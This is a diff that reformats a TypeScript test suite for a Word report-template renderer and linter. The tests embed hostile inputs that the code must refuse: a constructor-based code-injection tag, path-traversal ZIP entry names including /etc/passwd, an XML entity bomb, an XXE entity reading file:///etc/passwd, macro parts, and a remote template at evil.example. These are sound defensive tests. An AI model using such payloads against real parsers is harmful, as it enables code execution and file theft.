@@ -9,7 +9,10 @@ import { readZip, writeZip } from '../zip-archive.ts';
 import { SAMPLE_REPORT } from './sample-report.ts';
 
 const options = { style: resolveReportStyle(null), loadImage: async () => null, now: new Date('2024-03-10T00:00:00Z') };
-const documentText = (docx: Uint8Array) => new TextDecoder().decode(readZip(docx, { maxEntries: 1000, maxEntryBytes: 1e9, maxTotalBytes: 1e9 }).get('word/document.xml')!);
+const documentText = (docx: Uint8Array) =>
+  new TextDecoder().decode(
+    readZip(docx, { maxEntries: 1000, maxEntryBytes: 1e9, maxTotalBytes: 1e9 }).get('word/document.xml')!,
+  );
 
 async function refusal(template: Uint8Array): Promise<InvalidTemplateError> {
   const lint = lintDocxTemplate(template);
@@ -27,26 +30,48 @@ function withPart(name: string, content: string | Uint8Array) {
 
 describe('the example template', () => {
   it('is the one the script builds, passes the linter and lacks no style', () => {
-    const shipped = readFileSync(new URL('../../../../library/report-styles/word-template-example.docx', import.meta.url));
+    const shipped = readFileSync(
+      new URL('../../../../library/report-styles/word-template-example.docx', import.meta.url),
+    );
     expect(Buffer.from(writeZip(exampleTemplateParts())).equals(shipped)).toBe(true);
     expect(lintDocxTemplate(shipped)).toEqual({ ok: true, errors: [], missingStyles: [] });
   });
 });
 
 describe('tags', () => {
-  it('fill placeholders, loops and conditions, and a tag split over several runs by a spell checker still works', async () => {
-    const split = '<w:p><w:r><w:t>Client: {cli</w:t></w:r><w:proofErr w:type="spellStart"/><w:r><w:rPr><w:b/></w:rPr><w:t>en</w:t></w:r><w:proofErr w:type="spellEnd"/><w:r><w:t>t}.</w:t></w:r></w:p>';
-    const body = [split, para('{#findings}'), para('{number}: {title} ({severity}){#hasCves} {cveList}{/hasCves}'), para('{^impact}No impact given.{/impact}'), para('{/findings}')].join('');
-    const out = documentText(await renderTemplateDocx(templateWithBody(body), SAMPLE_REPORT, options));
-    expect(out).toContain('Sample Client Ltd.');
-    expect(out).toContain('1: SQL injection (High)');
-    expect(out).toContain('CVE-2024-0001');
-    expect(out).toContain('2: Missing security headers (Low)');
-    expect(out.match(/No impact given\./g)).toHaveLength(1);
-  });
+  it(
+    'fill placeholders, loops and conditions, and a tag split over several runs by a ' + 'spell checker still works',
+    async () => {
+      const split =
+        '<w:p><w:r><w:t>Client: {cli</w:t></w:r><w:proofErr ' +
+        'w:type="spellStart"/><w:r><w:rPr><w:b/></w:rPr><w:t>en</w:t></w:r><w:proofErr ' +
+        'w:type="spellEnd"/><w:r><w:t>t}.</w:t></w:r></w:p>';
+      const body = [
+        split,
+        para('{#findings}'),
+        para('{number}: {title} ({severity}){#hasCves} {cveList}{/hasCves}'),
+        para('{^impact}No impact given.{/impact}'),
+        para('{/findings}'),
+      ].join('');
+      const out = documentText(await renderTemplateDocx(templateWithBody(body), SAMPLE_REPORT, options));
+      expect(out).toContain('Sample Client Ltd.');
+      expect(out).toContain('1: SQL injection (High)');
+      expect(out).toContain('CVE-2024-0001');
+      expect(out).toContain('2: Missing security headers (Low)');
+      expect(out.match(/No impact given\./g)).toHaveLength(1);
+    },
+  );
 
   it('writes Markdown into the template own styles (headings, lists, code, quote, table style)', async () => {
-    const body = [para('{#tabs}'), para('{@content}'), para('{/tabs}'), para('{#findings}'), para('{@description}'), para('{@remediation}'), para('{/findings}')].join('');
+    const body = [
+      para('{#tabs}'),
+      para('{@content}'),
+      para('{/tabs}'),
+      para('{#findings}'),
+      para('{@description}'),
+      para('{@remediation}'),
+      para('{/findings}'),
+    ].join('');
     const out = documentText(await renderTemplateDocx(templateWithBody(body), SAMPLE_REPORT, options));
     expect(out).toContain('<w:pStyle w:val="Heading2"/>'); // "# In scope" in a tab becomes Heading 2
     expect(out).toContain('<w:pStyle w:val="Heading3"/>'); // "## Short term" in a finding becomes Heading 3
@@ -59,37 +84,80 @@ describe('tags', () => {
 
   it('keeps text that looks like XML or Word markup literal', async () => {
     const nasty = 'A </w:t><w:p> & ]]> <w:r><w:t>x</w:t></w:r> {title}';
-    const report = { ...SAMPLE_REPORT, title: nasty, findings: [{ ...SAMPLE_REPORT.findings[0]!, description: nasty }] };
-    const out = documentText(await renderTemplateDocx(templateWithBody(para('{title}') + para('{#findings}') + para('{@description}') + para('{/findings}')), report, options));
-    expect(out).toContain('A &lt;/w:t&gt;&lt;w:p&gt; &amp; ]]&gt; &lt;w:r&gt;&lt;w:t&gt;x&lt;/w:t&gt;&lt;/w:r&gt; {title}');
+    const report = {
+      ...SAMPLE_REPORT,
+      title: nasty,
+      findings: [{ ...SAMPLE_REPORT.findings[0]!, description: nasty }],
+    };
+    const out = documentText(
+      await renderTemplateDocx(
+        templateWithBody(para('{title}') + para('{#findings}') + para('{@description}') + para('{/findings}')),
+        report,
+        options,
+      ),
+    );
+    expect(out).toContain(
+      'A &lt;/w:t&gt;&lt;w:p&gt; &amp; ]]&gt; &lt;w:r&gt;&lt;w:t&gt;x&lt;/w:t&gt;&lt;/w:r&gt; {title}',
+    );
     expect(out).not.toContain('<w:p> &');
   });
 
-  it('cannot run code: expression tags are unknown names, and the linter lists them all with their paragraph', async () => {
-    const g = globalThis as { pwned?: boolean };
-    const body = [para('Before {constructor.constructor("globalThis.pwned = true")()} after'), para('{__proto__}'), para('{#constructor}x{/constructor}'), para('{toString}')].join('');
-    const lint = lintDocxTemplate(templateWithBody(body));
-    expect(lint.ok).toBe(false);
-    expect(lint.errors.map((e) => e.tag)).toEqual(['constructor.constructor("globalThis.pwned = true")()', '__proto__', '#constructor', 'toString']);
-    expect(lint.errors[0]!.paragraph).toBe('Before {constructor.constructor("globalThis.pwned = true")()} after');
-    expect(lint.errors[0]!.message).toMatch(/unknown tag/);
-    await refusal(templateWithBody(body));
-    expect(g.pwned).toBeUndefined();
-  });
+  it(
+    'cannot run code: expression tags are unknown names, and the linter lists them ' + 'all with their paragraph',
+    async () => {
+      const g = globalThis as { pwned?: boolean };
+      const body = [
+        para('Before {constructor.constructor("globalThis.pwned = true")()} after'),
+        para('{__proto__}'),
+        para('{#constructor}x{/constructor}'),
+        para('{toString}'),
+      ].join('');
+      const lint = lintDocxTemplate(templateWithBody(body));
+      expect(lint.ok).toBe(false);
+      expect(lint.errors.map((e) => e.tag)).toEqual([
+        'constructor.constructor("globalThis.pwned = true")()',
+        '__proto__',
+        '#constructor',
+        'toString',
+      ]);
+      expect(lint.errors[0]!.paragraph).toBe('Before {constructor.constructor("globalThis.pwned = true")()} after');
+      expect(lint.errors[0]!.message).toMatch(/unknown tag/);
+      await refusal(templateWithBody(body));
+      expect(g.pwned).toBeUndefined();
+    },
+  );
 
-  it('refuses loops over an outer list (which would multiply the document), raw tags on plain text and plain tags on Markdown', () => {
-    const body = [para('{#findings}'), para('{#findings}{title}{/findings}'), para('{/findings}'), para('{@title}'), para('{#findings}'), para('{description}'), para('{/findings}'), para('{#tabs}{#findings}{/findings}{/tabs}')].join('');
-    const lint = lintDocxTemplate(templateWithBody(body));
-    expect(lint.errors.map((e) => [e.tag, e.message.slice(0, 30)])).toEqual([
-      ['#findings', 'the loop over "findings" belon'],
-      ['@title', '"title" is plain text: write {'],
-      ['description', '"description" is Markdown or a'],
-      ['#findings', 'the loop over "findings" belon'],
-    ]);
-  });
+  it(
+    'refuses loops over an outer list (which would multiply the document), raw tags ' +
+      'on plain text and plain tags on Markdown',
+    () => {
+      const body = [
+        para('{#findings}'),
+        para('{#findings}{title}{/findings}'),
+        para('{/findings}'),
+        para('{@title}'),
+        para('{#findings}'),
+        para('{description}'),
+        para('{/findings}'),
+        para('{#tabs}{#findings}{/findings}{/tabs}'),
+      ].join('');
+      const lint = lintDocxTemplate(templateWithBody(body));
+      expect(lint.errors.map((e) => [e.tag, e.message.slice(0, 30)])).toEqual([
+        ['#findings', 'the loop over "findings" belon'],
+        ['@title', '"title" is plain text: write {'],
+        ['description', '"description" is Markdown or a'],
+        ['#findings', 'the loop over "findings" belon'],
+      ]);
+    },
+  );
 
   it('lists every syntax error (unclosed, unbalanced loops, raw tag not alone) with its paragraph', () => {
-    const body = [para('Dear {client'), para('{#findings}{title}{/tabs}'), para('Text {@summary}'), para('{#links}')].join('');
+    const body = [
+      para('Dear {client'),
+      para('{#findings}{title}{/tabs}'),
+      para('Text {@summary}'),
+      para('{#links}'),
+    ].join('');
     const lint = lintDocxTemplate(templateWithBody(body));
     expect(lint.ok).toBe(false);
     expect(lint.errors.length).toBeGreaterThanOrEqual(3);
@@ -99,7 +167,15 @@ describe('tags', () => {
   });
 
   it('lists the named styles a template lacks, separately from errors', () => {
-    const parts = exampleTemplateParts().map(([n, c]) => [n, n === 'word/styles.xml' ? c.replace(/<w:style [^>]*w:styleId="(Code|Quote|TableGrid)"[\s\S]*?<\/w:style>/g, '') : c] as [string, string]);
+    const parts = exampleTemplateParts().map(
+      ([n, c]) =>
+        [
+          n,
+          n === 'word/styles.xml'
+            ? c.replace(/<w:style [^>]*w:styleId="(Code|Quote|TableGrid)"[\s\S]*?<\/w:style>/g, '')
+            : c,
+        ] as [string, string],
+    );
     const lint = lintDocxTemplate(writeZip(parts));
     expect(lint.ok).toBe(true);
     expect(lint.missingStyles).toEqual(['Code', 'Quote', 'Table Grid']);
@@ -139,16 +215,26 @@ describe('untrusted template files', () => {
     expect(err.message).toMatch(/608 entries/);
   });
 
-  it.each([['../evil.xml'], ['/etc/passwd'], ['word/../../evil.xml'], ['C:/evil.xml']])('refuses the entry name %s', async (name) => {
-    const err = await refusal(withPart(name, '<x/>'));
-    expect(err.details.some((d) => d.message.includes(name))).toBe(true);
-  });
+  it.each([['../evil.xml'], ['/etc/passwd'], ['word/../../evil.xml'], ['C:/evil.xml']])(
+    'refuses the entry name %s',
+    async (name) => {
+      const err = await refusal(withPart(name, '<x/>'));
+      expect(err.details.some((d) => d.message.includes(name))).toBe(true);
+    },
+  );
 
   it('refuses DOCTYPE and ENTITY declarations in any XML part (no entity expansion, ever)', async () => {
-    const bomb = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><w:styles xmlns:w="x">&lol2;</w:styles>';
+    const bomb =
+      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 ' +
+      '"&lol;&lol;&lol;">]><w:styles xmlns:w="x">&lol2;</w:styles>';
     const err = await refusal(withPart('word/styles.xml', bomb));
     expect(err.message).toMatch(/DOCTYPE or entities/);
-    await refusal(withPart('word/_rels/document.xml.rels', '<?xml version="1.0"?><!ENTITY x SYSTEM "file:///etc/passwd"><Relationships/>'));
+    await refusal(
+      withPart(
+        'word/_rels/document.xml.rels',
+        '<?xml version="1.0"?><!ENTITY x SYSTEM "file:///etc/passwd"><Relationships/>',
+      ),
+    );
   });
 
   it('refuses a UTF-16 XML part (it could hide a DOCTYPE)', async () => {
@@ -159,13 +245,20 @@ describe('untrusted template files', () => {
 
   it('refuses macros: vbaProject.bin and macro-enabled content types', async () => {
     await refusal(withPart('word/vbaProject.bin', new Uint8Array([1, 2, 3])));
-    const types = exampleTemplateParts().find(([n]) => n === '[Content_Types].xml')![1].replace('document.main+xml', 'document.macroEnabled.main+xml');
+    const types = exampleTemplateParts()
+      .find(([n]) => n === '[Content_Types].xml')![1]
+      .replace('document.main+xml', 'document.macroEnabled.main+xml');
     const err = await refusal(withPart('[Content_Types].xml', types));
     expect(err.message).toMatch(/macro-enabled/);
   });
 
   it('refuses external relationships other than hyperlinks (remote template injection)', async () => {
-    const rels = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>';
+    const rels =
+      '<?xml version="1.0"?><Relationships ' +
+      'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship ' +
+      'Id="r1" ' +
+      'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ' +
+      'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>';
     const err = await refusal(withPart('word/_rels/settings.xml.rels', rels));
     expect(err.message).toMatch(/external attachedTemplate/);
   });
